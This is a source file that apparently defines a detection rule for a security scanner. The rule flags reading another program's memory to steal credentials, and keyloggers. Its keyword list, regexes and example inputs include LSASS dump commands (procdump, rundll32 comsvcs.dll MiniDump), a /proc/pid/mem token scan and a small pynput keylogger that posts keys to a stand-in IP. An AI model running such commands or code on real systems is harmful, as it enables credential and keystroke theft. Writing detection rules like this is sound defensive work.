import { commandsThat, scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "CMDEXEC_139",
  aliases: ["SUPPLY_023", "JS_PROC_MEM_OIDC_001"],
  title: "The memory of another program is read",
  why: "Passwords and keys lie in memory in plain text, also those that were never in a file.",
  fix: "Rotate what the program held, and isolate the machine.",
  severity: "critical",
  category: "command-execution",
  lane: "block",
  maps: {
    asi: ["ASI03", "ASI05"],
    mcp: ["MCP01"],
    cwe: ["CWE-522"],
    see: ["https://attack.mitre.org/techniques/T1003/"],
  },
  reads: ["message", "prompt", "tool_argument", "command", "tool_description", "document", "config"],
  keywords: [
    "lsass",
    "comsvcs.dll",
    "procdump",
    "mimikatz",
    "sekurlsa",
    "/mem",
    "gcore",
    "minidump",
    "process_vm_readv",
    "keylog",
    "logkeys",
    "hashdump",
    "pynput.keyboard",
    "setwindowshookex",
  ],
  match: [
    /\b(?:procdump(?:64)?(?:\.exe)?\b[^\n]{0,60}\blsass|rundll32(?:\.exe)?\b[^\n]{0,60}comsvcs\.dll[^\n]{0,20}(?:MiniDump|#24)|sekurlsa::|lsadump::|kerberos::(?:golden|ptt)|privilege::debug|mimikatz(?:\.exe)?["']?\s{1,2}["']?\w{1,12}::)/i,
    scan(
      /\/proc\/(?:\$?\{?\w{1,20}\}?|\d{1,7}|\*|["'`]\s{0,2}\+\s{0,2}\w{1,20}[^\n]{0,20}|\{\w{1,20}\})\/(?:mem|environ|maps)\b/,
      (match, { text }) =>
        /\/mem\b/.test(match[0]) &&
        /(?:open|readFile\w{0,6}|createReadStream|cat|dd|strings|xxd|grep|memmap|seek)/.test(
          text.slice(Math.max(0, match.index - 100), match.index + 160),
        ) && !/\/proc\/self\/mem\b/.test(match[0]),
    ),
    commandsThat(({ name, args }) =>
      name === "gcore" && args.some((arg) => /^(?:\$|[1-9]\d{0,6}$)/.test(arg)) ||
      name === "gdb" && /-p\s?\d|--pid/.test(args.join(" ")) &&
        /dump\s{1,2}memory|generate-core-file/.test(args.join(" "))
    ),
    scan(
      /\b(?:pynput\.keyboard|keyboard\.on_press|SetWindowsHookEx\w?|GetAsyncKeyState|CGEventTapCreate)\b/,
      (match, { text }) =>
        /\b(?:requests\.post|smtplib|urlopen|socket|webhook|http)\b/.test(
          text.slice(match.index, match.index + 2000),
        ) && /\blog|key|buffer/i.test(text.slice(match.index, match.index + 1200)),
    ),
  ],
  examples: {
    flags: [{ text: "procdump64.exe -ma lsass.exe out.dmp", kind: "command" }, {
      text: "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
      kind: "command",
    }, {
      text:
        'with open(f"/proc/{pid}/mem", "rb") as mem:\n    mem.seek(start)\n    found = re.findall(b"ghs_", mem.read(size))',
      kind: "document",
    }, {
      text:
        'from pynput.keyboard import Listener\nkeys = []\ndef on_press(k): keys.append(k)\nrequests.post("http://203.0.113.4/k", data=str(keys))',
      kind: "document",
    }],
    passes: [{ text: "cat /proc/meminfo", kind: "command" }, { text: "cat /proc/self/maps", kind: "command" }, {
      text: "keyboard.on_press(lambda event: print(event.name))",
      kind: "document",
    }, "The tool mimikatz is mentioned in the report."],
  },
});
